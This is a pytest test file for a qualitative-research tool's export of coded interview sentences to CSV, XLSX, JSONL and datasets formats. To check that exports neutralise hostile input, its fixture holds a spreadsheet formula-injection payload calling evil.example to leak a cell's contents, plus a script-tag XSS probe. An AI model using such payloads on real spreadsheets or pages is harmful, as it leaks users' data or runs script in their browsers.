"""The long table of codes, in every format, with text that bites."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from precode.domain import Kind, Polarity, Role
from precode.errors import UsageError
from precode.files.offline import OFFLINE
from precode.report.export import (
    COLUMNS,
    export_columns,
    export_rows,
    write_codes_csv,
    write_codes_dataset,
    write_codes_jsonl,
    write_codes_xlsx,
)
from precode.report.view import StudyView

MakeView = Callable[..., StudyView]
B, F = Polarity.BARRIER, Polarity.FACILITATOR

FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
TEXTS = [
    FORMULA,
    "<script>alert(1)</script>",
    "אני לא יודע",
    "😀 “quoted”, with\tcomma",
    "w " * 5000,
]


@pytest.fixture
def view(make_view: MakeView) -> StudyView:
    """Five hostile sentences: coded, read without a code, pre-coded, and not read at all."""
    no = (0.2, False, "")
    spoken = [("I", Role.INTERVIEWER, ["Why?"]), ("P1", Role.PARTICIPANT, TEXTS)]
    return make_view(
        [("fg", Kind.FOCUS_GROUP, spoken)],
        [
            (0, 1, "Ana", "knowing", B),
            (0, 1, "Ana", "body", F),
            (0, 1, "Rhys", "knowing", B),
            (0, 2, "Rhys", "knowing", Polarity.UNCLEAR),
        ],
        read=[(0, 3, "Ana")],
        assisted=[(0, 2, "Rhys"), (0, 3, "Ana")],
        attributes={(0, "P1"): {"age band": "18-25", "=job": None}},
        machine={
            (0, 1): [(0.875, True, "barrier"), no, no],
            (0, 4): [no, no, no],
            (0, 5): [(float("nan"), True, "both"), (0.7, True, "facilitator"), no],
        },
        verdicts={(0, 4): "none", (0, 5): "review"},
    )  # fmt: skip


def test_each_row_says_who_gave_the_code(view: StudyView) -> None:
    """People before the machine, sentence by sentence; "nothing applies" is a row."""
    rows = list(export_rows(view))
    told = [
        (r["text"], r["source_of_code"], r["coder"], r["code"], r["polarity"], r["assisted"],
         r["p"], r["verdict"], r["label"])
        for r in rows
    ]  # fmt: skip
    assert told == [
        (TEXTS[0], "human", "Ana", "knowing", "barrier", False, None, "", "Knowing"),
        (TEXTS[0], "human", "Ana", "body", "facilitator", False, None, "", "Body"),
        (TEXTS[0], "human", "Rhys", "knowing", "barrier", False, None, "", "Knowing"),
        (TEXTS[0], "machine", "", "knowing", "barrier", False, 0.875, "accept", "Knowing"),
        (TEXTS[1], "human", "Rhys", "knowing", "unclear", True, None, "", "Knowing"),
        (TEXTS[2], "human", "Ana", "", "", True, None, "", "nothing applies"),
        (TEXTS[3], "machine", "", "", "", False, None, "none", "nothing applies"),
        (TEXTS[4], "machine", "", "knowing", "both", False, None, "review", "Knowing"),
        (TEXTS[4], "machine", "", "body", "facilitator", False, 0.7, "review", "Body"),
    ]
    assert {(r["transcript"], r["speaker"], r["role"], r["kind"], r["turn"]) for r in rows} == {
        ("fg", "P1", "participant", "focus group", 1)
    }
    assert {(r["attr.age band"], r["attr.=job"]) for r in rows} == {("18-25", "")}
    assert {r["domain"] for r in rows} == {"Capability", ""}
    assert {r["model"] for r in rows} == {"", "model-1"}


def test_export_can_be_narrowed(view: StudyView) -> None:
    """By source of code, by coder (people only) and by code (which leaves "nothing" out)."""

    def count(**options: object) -> int:
        return len(list(export_rows(view, **options)))  # type: ignore[arg-type]

    assert (count(), count(machine=False), count(human=False)) == (9, 5, 4)
    assert count(machine=False, coders=["Ana"]) == 3
    assert count(codes=["body"]) == 2
    assert count(human=False, coders=["Ana"]) == 4
    assert count(human=False, machine=False) == 0


def test_an_unknown_code_or_coder_is_refused_with_the_known_ones(view: StudyView) -> None:
    """Before a single row is made."""
    with pytest.raises(UsageError, match="no such code") as error:
        export_rows(view, codes=["knowin"])
    assert "knowing" in error.value.mend
    with pytest.raises(UsageError, match="no such coder") as error:
        export_rows(view, coders=["Anna"])
    assert error.value.mend == "choose from: Ana, Rhys"


def test_csv_holds_every_row_and_runs_nothing(view: StudyView, tmp_path: Path) -> None:
    """A cell that begins like a formula is defused; all other text is unchanged."""
    path = tmp_path / "codes.csv"
    write_codes_csv(path, export_columns(view), export_rows(view))
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 9
    assert rows[0]["text"] == "'" + FORMULA
    assert [r["text"] for r in rows[4:8]] == TEXTS[1:]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_xlsx_cells_are_typed_and_never_formulas(view: StudyView, tmp_path: Path) -> None:
    """Numbers stay numbers, text stays text, also where it looks like a formula."""
    path = tmp_path / "codes.xlsx"
    write_codes_xlsx(path, export_columns(view), export_rows(view))
    sheet = openpyxl.load_workbook(path)["codes"]
    header = [c.value for c in sheet[1]]
    assert header[: len(COLUMNS)] == list(COLUMNS)
    cells = dict(zip(header, sheet[5], strict=True))
    assert cells["p"].value == 0.875 and cells["start"].data_type == "n"
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


def test_jsonl_gives_back_the_same_rows(view: StudyView, tmp_path: Path) -> None:
    """Nothing is changed, not even what a spreadsheet would choke on."""
    path = tmp_path / "codes.jsonl"
    write_codes_jsonl(path, export_rows(view))
    lines = path.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == list(export_rows(view))


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_datasets_folder_loads_offline(
    view: StudyView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Types survive, an older export is replaced, and the libraries were told to stay offline."""
    for name in OFFLINE:
        monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv(name, "0")
    path = tmp_path / "codes"
    rows = list(export_rows(view))
    write_codes_dataset(path, export_columns(view), rows[:1])
    write_codes_dataset(path, export_columns(view), rows)
    assert {k: os.environ[k] for k in OFFLINE} == OFFLINE
    from datasets import load_from_disk

    assert load_from_disk(path).to_list() == rows
    assert [p.name for p in tmp_path.iterdir()] == ["codes"]


def test_an_empty_export_still_has_its_columns(make_view: MakeView, tmp_path: Path) -> None:
    """Nothing coded: a header, and a dataset with typed columns."""
    view = make_view([])
    write_codes_csv(tmp_path / "codes.csv", export_columns(view), export_rows(view))
    assert (tmp_path / "codes.csv").read_text(encoding="utf-8-sig").strip() == ",".join(COLUMNS)
    write_codes_dataset(tmp_path / "codes", export_columns(view), export_rows(view))
    from datasets import load_from_disk

    assert load_from_disk(tmp_path / "codes").column_names == list(COLUMNS)
